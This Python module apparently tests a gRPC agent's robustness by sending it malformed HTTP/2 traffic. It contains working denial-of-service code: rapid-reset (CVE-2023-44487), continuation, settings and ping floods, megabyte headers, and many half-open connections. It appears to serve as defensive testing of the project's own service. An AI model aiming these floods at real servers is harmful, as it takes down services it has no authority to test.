"""Bytes at an agent's port that no client of gRPC would send: a row of attacks, each one connection.

An attack is a function of a seeded generator that returns what is written. The agent may answer, or end the connection;
nobody else may notice.
"""

import asyncio
import contextlib
import struct
from collections.abc import AsyncIterator, Callable, Sequence
from random import Random

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
FLOOD = 5_000
"""Frames of a flood."""
_READING = 0.05  # seconds for which an attacker listens
_MOST = 16_384


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"", length: int = -1) -> bytes:
    """A frame (RFC 9113, 4.1), which may lie about its length."""
    size = len(payload) if length < 0 else length
    return struct.pack(">I", size)[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header field without indexing or compression (RFC 7541, 6.2.2)."""
    return b"\0" + _integer(len(name)) + name + _integer(len(value)) + value


def _integer(number: int) -> bytes:
    if number < 127:
        return bytes([number])
    rest, coded = number - 127, bytearray([127])
    while rest >= 128:
        coded.append(rest % 128 + 128)
        rest //= 128
    return bytes([*coded, rest])


BEGIN = PREFACE + frame(SETTINGS)


def call_headers(path: bytes = b"/telesock.v1.AgentService/GetAgent") -> bytes:
    """The header block of a call."""
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x")]
    fields += [(b"te", b"trailers"), (b"content-type", b"application/grpc")]
    return b"".join(literal(name, value) for name, value in fields)


def random_bytes(chance: Random) -> bytes:
    return chance.randbytes(chance.choice([1, 24, 5_000]))


def another_protocol(chance: Random) -> bytes:
    return chance.choice(
        [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03", b"\0"]
    )


def half_a_preface(chance: Random) -> bytes:
    return PREFACE[: chance.randrange(len(PREFACE))]


def noise_behind_the_preface(chance: Random) -> bytes:
    return PREFACE + chance.randbytes(3_000)


def any_frames(chance: Random) -> bytes:
    """Frames of any kind with anything in them, some of a length that is not theirs."""
    made = [BEGIN]
    for _ in range(40):
        payload = chance.randbytes(chance.choice([0, 4, 5, 8, 9, 300]))
        length = chance.choice([-1, -1, -1, -1, 0, len(payload) + 1, 2**24 - 1])
        stream = chance.choice([0, 1, 2, 3, 2**31 - 1, 2**32 - 1])
        made.append(frame(chance.randrange(12), chance.randrange(256), stream, payload, length))
    return b"".join(made)


def wrong_order(chance: Random) -> bytes:
    """Frames that are well made, at moments that are not theirs."""
    frames = [
        frame(DATA, END_STREAM, 1, b"\0\0\0\0\0"),
        frame(HEADERS, END_HEADERS, 2, call_headers()),
        frame(HEADERS, END_HEADERS | END_STREAM, 5, call_headers()),
        frame(HEADERS, END_HEADERS, 3, call_headers()),
        frame(CONTINUATION, END_HEADERS, 1, call_headers()),
        frame(WINDOW, 0, 1, struct.pack(">I", 0)),
        frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1)),
        frame(RESET, 0, 9, struct.pack(">I", 8)),
        frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2) + call_headers()),
        frame(SETTINGS, ACK, 0),
        frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**32 - 1)),
        frame(PRIORITY, 0, 1, struct.pack(">IB", 1, 255)),
        frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)),
    ]
    chance.shuffle(frames)
    return BEGIN + b"".join(frames)


def header_garbage(chance: Random) -> bytes:
    return BEGIN + frame(HEADERS, END_HEADERS | END_STREAM, 1, chance.randbytes(chance.choice([10, 2_000])))


def broken_header_fields(chance: Random) -> bytes:
    """A call's own header block with a few bits turned over."""
    block = bytearray(call_headers())
    for _ in range(chance.randint(1, 5)):
        block[chance.randrange(len(block))] ^= 1 << chance.randrange(7)  # see a_path_that_is_no_text
    return BEGIN + frame(HEADERS, END_HEADERS | END_STREAM, 1, bytes(block))


def huge_headers(chance: Random) -> bytes:
    """A header field of a megabyte, over as many frames as that takes."""
    block = call_headers() + literal(b"x", bytes(1 << 20))
    pieces = [block[start : start + _MOST] for start in range(0, len(block), _MOST)]
    middle = b"".join(frame(CONTINUATION, 0, 1, piece) for piece in pieces[1:-1])
    return BEGIN + frame(HEADERS, 0, 1, pieces[0]) + middle + frame(CONTINUATION, END_HEADERS, 1, pieces[-1])


def many_headers(chance: Random) -> bytes:
    block = call_headers() + literal(b"x", b"y") * 3_000
    return BEGIN + frame(HEADERS, END_HEADERS | END_STREAM, 1, block[:_MOST])


def continuation_flood(chance: Random) -> bytes:
    """A header block that never ends."""
    pieces = frame(CONTINUATION, 0, 1, literal(b"x", bytes(1_000))) * (FLOOD // 5)
    return BEGIN + frame(HEADERS, 0, 1, call_headers()) + pieces


def settings_flood(chance: Random) -> bytes:
    return BEGIN + frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * FLOOD


def ping_flood(chance: Random) -> bytes:
    return BEGIN + frame(PING, 0, 0, bytes(8)) * FLOOD


def rapid_reset(chance: Random) -> bytes:
    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""
    calls = [
        frame(HEADERS, END_HEADERS, stream, call_headers()) + frame(RESET, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 801, 2)
    ]
    return BEGIN + b"".join(calls)


def a_lie_about_a_message(chance: Random) -> bytes:
    """A call whose message is said to be longer than it is, or compressed."""
    lie = chance.choice([b"\0\0\0\0\x64abc", b"\0\xff\xff\xff\xff", b"\x01\0\0\0\x03abc", b"\x07\0\0\0\0"])
    path = chance.choice([b"/telesock.v1.SessionService/Attach", b"/telesock.v1.AgentService/GetAgent", b"x"])
    return BEGIN + frame(HEADERS, END_HEADERS, 1, call_headers(path)) + frame(DATA, END_STREAM, 1, lie)


def a_path_that_is_no_text(chance: Random) -> bytes:
    """A call of a method whose name is no UTF-8. Not among the others."""
    headers = call_headers(b"/telesock.v1.AgentService/\xff")
    return BEGIN + frame(HEADERS, END_HEADERS | END_STREAM, 1, headers)


def empty_frames(chance: Random) -> bytes:
    return BEGIN + frame(HEADERS, END_HEADERS, 1, call_headers()) + frame(DATA, 0, 1) * FLOOD


Attack = Callable[[Random], bytes]
ATTACKS: tuple[Attack, ...] = (
    random_bytes,
    another_protocol,
    half_a_preface,
    noise_behind_the_preface,
    any_frames,
    wrong_order,
    header_garbage,
    broken_header_fields,
    huge_headers,
    many_headers,
    continuation_flood,
    settings_flood,
    ping_flood,
    rapid_reset,
    a_lie_about_a_message,
    empty_frames,
)


async def assault(address: str, chance: Random, attacks: Sequence[Attack] = ATTACKS) -> None:
    """Attack in all of these ways, in any order and a few at a time."""
    left = list(attacks)
    chance.shuffle(left)
    while left:
        several, left = left[:4], left[4:]
        await asyncio.gather(*(_attack(address, attack(chance), chance.random()) for attack in several))


async def _attack(address: str, data: bytes, manner: float) -> None:
    """Say it, listen for a moment, and leave: as one does, or by a reset."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout(10 * _READING if len(data) > _MOST else _READING):
            writer.write(data)
            await writer.drain()
            while await reader.read(65_536):
                pass
    if manner < 0.5:
        writer.transport.abort()
    writer.close()
    with contextlib.suppress(OSError):
        await writer.wait_closed()


@contextlib.asynccontextmanager
async def half_open(address: str, connections: int) -> AsyncIterator[None]:
    """Hold many connections on which a part of a preface was said, and nothing more."""
    host, _, port = address.rpartition(":")
    async with contextlib.AsyncExitStack() as held:
        for number in range(connections):
            _, writer = await asyncio.open_connection(host, int(port))
            held.callback(writer.close)
            writer.write(PREFACE[: number % len(PREFACE)])
            await writer.drain()
        yield
